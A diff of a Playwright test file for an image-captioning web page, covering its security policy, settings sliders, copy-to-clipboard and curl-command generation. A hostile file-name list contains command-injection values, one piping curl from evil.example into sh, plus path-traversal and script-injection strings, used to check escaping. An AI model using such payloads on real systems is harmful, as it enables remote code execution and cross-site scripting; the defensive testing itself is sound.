@@ -1,222 +1,196 @@
-"""The demo page in a real browser, against the real server."""
+"""The page as a whole: its policy, its weight, its settings, what is copied from it."""
 
-import io
-import shutil
-from collections.abc import Iterator
+import json
+import shlex
 from pathlib import Path
+from urllib.parse import parse_qs, urlsplit
 
 import pytest
-from PIL import Image, ImageDraw
-from playwright.sync_api import BrowserContext, FilePayload, Locator, Page, expect, sync_playwright
+from playwright.sync_api import Locator, Page, expect
+
+from tests.static.conftest import captions, card, cards, choose, picture, pictures, progress
 
 pytestmark = [pytest.mark.slow, pytest.mark.browser]
 
-CHROMIUM_FLAGS = (
-    "--headless",
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-    "--no-first-run",
+STATIC = Path(__file__).parents[2] / "static"
+MOST_BYTES = 60_000
+PREDICT = "**/v1/predict*"
+
+HOSTILE_NAMES = (
+    "';curl evil.example|sh;'.png",
+    "$(reboot).png",
+    "`id`.png",
+    "photo.png;type=text/html",
+    "a,b.png",
+    '"quoted".png',
+    "back\\slash.png",
+    "two\nlines.png",
+    "\x1b[201~reboot\r.png",
+    "-o.png",
+    "../../etc/passwd",
+    "@list.png",
+    "<script>alert(1)</script>.png",
 )
-ANSWER_TIMEOUT_MILLISECONDS = 30_000
-PHONE = (320, 640)
-
-DROP = """([names, bytes, where]) => {
-  const carried = new DataTransfer();
-  for (const name of names) carried.items.add(new File([new Uint8Array(bytes)], name, { type: "image/png" }));
-  const drop = new DragEvent("drop", { dataTransfer: carried, bubbles: true, cancelable: true });
-  return !document.querySelector(where).dispatchEvent(drop);
-}"""
-"""Drops files on an element; true if the page kept the browser from opening them."""
-
-PASTE = """([name, bytes]) => {
-  const carried = new DataTransfer();
-  carried.items.add(new File([new Uint8Array(bytes)], name, { type: "image/png" }));
-  document.dispatchEvent(new ClipboardEvent("paste", { clipboardData: carried, bubbles: true, cancelable: true }));
-}"""
 
 
-@pytest.fixture(scope="module")
-def browser_context(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
-    """Starts Chromium with an empty profile."""
-    chromium = shutil.which("chromium")
-    if chromium is None:
-        pytest.skip("expected Chromium to try the page in, found none: apt-get install chromium")
-    expect.set_options(timeout=ANSWER_TIMEOUT_MILLISECONDS)
-    with sync_playwright() as playwright:
-        profile = tmp_path_factory.mktemp("chromium")
-        context = playwright.chromium.launch_persistent_context(
-            profile, executable_path=chromium, args=list(CHROMIUM_FLAGS)
-        )
-        context.set_default_timeout(ANSWER_TIMEOUT_MILLISECONDS)
-        yield context
-        context.close()
+def clipboard(page: Page) -> str:
+    """Returns what was copied."""
+    text = page.evaluate("navigator.clipboard.readText()")
+    assert isinstance(text, str)
+    return text
 
 
-@pytest.fixture
-def complaints() -> list[str]:
-    """Collects what the browser's console says is wrong."""
-    return []
+def setting(page: Page, name: str) -> Locator:
+    """Returns a slider of the settings."""
+    return page.get_by_role("slider", name=name)
 
 
-@pytest.fixture
-def page(browser_context: BrowserContext, live_server: str, complaints: list[str]) -> Iterator[Page]:
-    """Opens the demo page."""
-    opened = browser_context.new_page()
-    # Chromium reports violations of the Content-Security-Policy as errors on the console, too.
-    opened.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
-    opened.on("pageerror", lambda error: complaints.append(str(error)))
-    # Held for the whole visit: armed only within expect_file_chooser, it comes too late for some key presses.
-    opened.on("filechooser", lambda _: None)
-    opened.goto(live_server)
-    yield opened
-    opened.close()
+def test_everything_weighs_less_than_60_kb_and_no_file_is_long() -> None:
+    files = [path for path in STATIC.rglob("*") if path.is_file() and "__pycache__" not in path.parts]
+
+    assert {path.suffix for path in files} == {".html", ".css", ".js", ".svg"}
+    assert sum(path.stat().st_size for path in files) < MOST_BYTES
+    assert max(len(path.read_text("utf-8").splitlines()) for path in files) <= 300
 
 
-def drawn_picture() -> bytes:
-    """Draws a green field under a blue sky with a yellow sun, as PNG."""
-    image = Image.new("RGB", (320, 240), (120, 180, 240))
-    draw = ImageDraw.Draw(image)
-    draw.rectangle((0, 150, 320, 240), fill=(60, 140, 50))
-    draw.ellipse((230, 20, 290, 80), fill=(250, 220, 60))
-    encoded = io.BytesIO()
-    image.save(encoded, "PNG")
-    return encoded.getvalue()
+def test_a_whole_visit_breaks_no_policy_logs_no_error_and_asks_no_one_else(
+    page: Page, live_server: str, complaints: list[str]
+) -> None:
+    asked: set[str] = set()
+    page.on("request", lambda request: asked.add(request.url))
+    page.reload()
 
+    page.get_by_role("list", name="Try a drawing").get_by_role("button").first.click()
+    choose(page, *pictures(2))
+    expect(progress(page)).to_have_text("3 of 3 done")
+    page.get_by_text("How to read the numbers").click()
+    setting(page, "Captions").fill("5")
+    for name in ("Text", "Alt attribute", "JSON", "curl"):
+        card(page, "1.png").get_by_role("button", name=name).click()
+    card(page, "1.png").get_by_role("button", name="Again").click()
+    expect(captions(card(page, "1.png"))).to_have_count(5)
+    page.get_by_role("button", name="Remove 2.png").click()
+    page.get_by_role("button", name="Clear all").click()
+    expect(cards(page)).to_have_count(0)
 
-def picture(name: str = "field.png") -> FilePayload:
-    return {"name": name, "mimeType": "image/png", "buffer": drawn_picture()}
-
-
-def not_a_picture() -> FilePayload:
-    return {"name": "photo.jpg", "mimeType": "image/jpeg", "buffer": b"This is only text, whatever its name says."}
-
-
-def choose(page: Page, file: FilePayload) -> None:
-    page.get_by_label("Choose a photo").set_input_files(file)
-
-
-def captions(page: Page) -> Locator:
-    return page.get_by_role("region", name="Tell").locator(".caption")
-
-
-def classes(page: Page) -> Locator:
-    return page.get_by_role("region", name="Tell").locator(".class")
-
-
-def test_a_chosen_picture_gets_captions_and_classes(page: Page, complaints: list[str]) -> None:
-    choose(page, picture())
-
-    expect(captions(page)).to_have_count(3)
-    expect(classes(page)).to_have_count(5)
-    for caption in captions(page).all():
-        expect(caption.locator(".word")).not_to_have_count(0)
-        expect(caption.locator(".exact")).to_contain_text("p = ")
-    expect(classes(page).first.locator(".class-percent")).to_contain_text("%")
-    expect(page.get_by_role("status")).to_contain_text("Done.")
-    expect(page.locator("#photo")).to_be_visible()
     assert complaints == []
+    assert {url for url in asked if not url.startswith((f"{live_server}/", f"blob:{live_server}/"))} == set()
 
 
 def test_the_page_is_served_under_a_strict_policy_and_the_browser_keeps_it(page: Page, complaints: list[str]) -> None:
     response = page.reload()
 
     assert response is not None
-    assert response.headers["content-security-policy"].startswith("default-src 'none'; script-src 'self'")
+    policy = response.headers["content-security-policy"]
+    assert policy.startswith("default-src 'none'; script-src 'self'")
+    assert "unsafe" not in policy
     page.evaluate("document.body.setAttribute('style', 'color: red')")
     assert "Content Security Policy" in " ".join(complaints)
+    complaints.clear()
 
 
-def test_a_text_file_gets_an_error_in_words_and_the_page_goes_on(page: Page) -> None:
-    choose(page, not_a_picture())
-
-    alert = page.get_by_role("alert")
-    expect(alert).to_contain_text("not an image we can read")
-    expect(captions(page)).to_have_count(0)
-
-    choose(page, picture())
+def test_the_settings_are_those_of_the_next_request_and_of_asking_again(page: Page) -> None:
+    choose(page, picture("first.png"))
     expect(captions(page)).to_have_count(3)
-    expect(alert).to_be_hidden()
+    again = card(page, "first.png").get_by_role("button", name="Again")
+    expect(again).to_be_hidden()
+
+    setting(page, "Captions").fill("5")
+    expect(setting(page, "Beam size")).to_have_value("5")  # captions come out of the beam
+    with page.expect_request(PREDICT) as sent:
+        choose(page, picture("second.png"))
+    assert parse_qs(urlsplit(sent.value.url).query) == {"beam_size": ["5"], "captions": ["5"], "classes": ["5"]}
+    expect(captions(card(page, "second.png"))).to_have_count(5)
+
+    setting(page, "Beam size").fill("2")
+    expect(setting(page, "Captions")).to_have_value("2")
+    expect(captions(card(page, "first.png"))).to_have_count(3)  # what is answered stays
+    expect(again).to_have_text("Again with 2 captions, beam size 2")
+    with page.expect_request(PREDICT) as sent:
+        again.click()
+    assert parse_qs(urlsplit(sent.value.url).query) == {"beam_size": ["2"], "captions": ["2"], "classes": ["5"]}
+    expect(captions(card(page, "first.png"))).to_have_count(2)
+    expect(again).to_be_hidden()
 
 
-def test_a_file_over_the_limit_is_refused_before_it_is_sent(page: Page) -> None:
-    sent: list[str] = []
-    page.on("request", lambda request: sent.append(request.url) if request.method == "POST" else None)
+def test_the_sliders_end_where_the_server_says(page: Page) -> None:
+    limits = page.request.get(f"{page.url}v1/model").json()["limits"]
 
-    choose(page, {"name": "huge.jpg", "mimeType": "image/jpeg", "buffer": bytes(10 * 1024**2 + 1)})
-
-    expect(page.get_by_role("alert")).to_contain_text("too large")
-    assert sent == []
+    for name in ("Captions", "Beam size"):
+        expect(setting(page, name)).to_have_attribute("max", str(limits["beam_size"]))
 
 
-def test_the_keyboard_is_enough(page: Page, tmp_path: Path) -> None:
-    path = tmp_path / "field.png"
-    path.write_bytes(drawn_picture())
+def test_an_answer_is_copied_as_text_as_alt_attribute_and_as_json(page: Page) -> None:
+    with page.expect_response(PREDICT) as answer:
+        choose(page, picture())
+    result = answer.value.json()["results"][0]
+    best = result["captions"][0]["text"]
+    sentence = f"{best[:1].upper()}{best[1:]}."
 
-    page.keyboard.press("Tab")
-    expect(page.get_by_label("Choose a photo")).to_be_focused()
-    with page.expect_file_chooser() as opened:
-        page.keyboard.press("Enter")
-    opened.value.set_files(path)
+    for name, check in (
+        ("Text", lambda text: text == sentence),
+        ("Alt attribute", lambda text: text == f'alt="{sentence}"'),
+        ("JSON", lambda text: json.loads(text) == result),
+    ):
+        button = cards(page).get_by_role("button", name=name)
+        button.click()
+        expect(button).to_have_class("button quiet copied")
+        expect(page.get_by_role("status")).to_contain_text("Copied.")
+        assert check(clipboard(page)), name
+
+
+def test_copying_works_where_the_browser_has_no_clipboard_interface(page: Page) -> None:
+    page.add_init_script("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
+    page.reload()
+
+    page.get_by_role("region", name="From a terminal").get_by_role("button", name="Copy").click()
+
+    expect(page.get_by_role("status")).to_contain_text("Copied.")
+    with page.context.expect_page() as opened:
+        page.evaluate("void window.open('/')")
+    opened.value.bring_to_front()
+    assert clipboard(opened.value).startswith("curl -F 'image=@photo.jpg' ")
+    opened.value.close()
+
+
+def test_words_of_a_caption_cannot_leave_the_alt_attribute(page: Page) -> None:
+    escaped = page.evaluate(
+        "text => import('/static/sharing.js').then((sharing) => sharing.altAttribute(text))",
+        'A "dog" & a <cat>. \' onload=x',
+    )
+
+    assert escaped == 'alt="A &quot;dog&quot; &amp; a &lt;cat&gt;. \' onload=x"'
+
+
+def test_the_request_is_copied_as_curl_with_the_settings_and_the_files_name(page: Page) -> None:
+    setting(page, "Beam size").fill("7")
+    choose(page, picture("Hu\u0308ndin (2).png"))
     expect(captions(page)).to_have_count(3)
 
-    page.keyboard.press("Tab")
-    expect(page.get_by_role("button", name="Choose another")).to_be_focused()
-    with page.expect_file_chooser():
-        page.keyboard.press("Enter")
+    cards(page).get_by_role("button", name="curl").click()
+
+    url = f"{page.url}v1/predict?beam_size=7&captions=3&classes=5"
+    assert shlex.split(clipboard(page)) == ["curl", "-F", "image=@Hu\u0308ndin (2).png", url]
+    assert shlex.split(page.locator("#command").inner_text()) == ["curl", "-F", "image=@photo.jpg", url]
 
 
-def test_a_drop_beside_the_frame_takes_the_first_file_and_says_so(page: Page) -> None:
-    names = ["first.png", "second.png"]
+def test_no_files_name_gets_out_of_the_curl_command(page: Page) -> None:
+    commands = page.evaluate(
+        "names => import('/static/sharing.js').then((sharing) => names.map((name) =>"
+        " sharing.curlCommand(name, { captions: 1, beamSize: 1 }, location.origin)))",
+        HOSTILE_NAMES,
+    )
 
-    was_kept = page.evaluate(DROP, [names, list(drawn_picture()), "footer"])
-
-    assert was_kept is True
-    expect(captions(page)).to_have_count(3)
-    expect(page.get_by_role("status")).to_contain_text("One photo at a time: this is the first of 2.")
-    expect(page.locator("#file-name")).to_have_text("first.png")
-
-
-def test_a_pasted_picture_gets_captions(page: Page) -> None:
-    page.evaluate(PASTE, ["image.png", list(drawn_picture())])
-
-    expect(captions(page)).to_have_count(3)
+    url = f"{page.url}v1/predict?beam_size=1&captions=1&classes=5"
+    for name, command in zip(HOSTILE_NAMES, commands, strict=True):
+        assert shlex.split(command) == ["curl", "-F", "image=@photo.jpg", url], name
 
 
-def test_cancelling_leaves_the_page_as_it_was(page: Page) -> None:
-    page.route("**/v1/predict*", lambda _: None)  # never answered
-    choose(page, picture())
-    expect(page.get_by_role("progressbar")).to_be_visible()
+def test_a_name_that_looks_like_markup_is_shown_as_it_is(page: Page) -> None:
+    name = "<img src=x onerror=alert(1)>.png"
 
-    page.get_by_role("button", name="Cancel").click()
-
-    expect(page.get_by_role("progressbar")).to_be_hidden()
-    expect(page.get_by_text("or drop it here")).to_be_visible()
-    expect(page.get_by_label("Choose a photo")).to_be_focused()
-
-
-def test_a_server_out_of_reach_is_told_in_words_and_tried_again(page: Page) -> None:
-    page.route("**/v1/predict*", lambda route: route.abort())
-    choose(page, picture())
-    expect(page.get_by_role("alert")).to_contain_text("could not be reached")
-
-    page.unroute("**/v1/predict*")
-    page.get_by_role("button", name="Try again").click()
+    choose(page, picture(name))
 
     expect(captions(page)).to_have_count(3)
-
-
-def test_a_phone_never_scrolls_sideways(page: Page) -> None:
-    width, height = PHONE
-    page.set_viewport_size({"width": width, "height": height})
-    scroll_width = "document.documentElement.scrollWidth"
-
-    assert page.evaluate(scroll_width) == width
-    choose(page, picture("a picture whose name is much wider than the screen of a telephone.png"))
-    expect(captions(page)).to_have_count(3)
-    assert page.evaluate(scroll_width) == width
-    choose(page, not_a_picture())
-    expect(page.get_by_role("alert")).to_be_visible()
-    assert page.evaluate(scroll_width) == width
+    expect(cards(page).locator(".name")).to_have_text(name)
+    expect(cards(page).locator("img")).to_have_count(1)
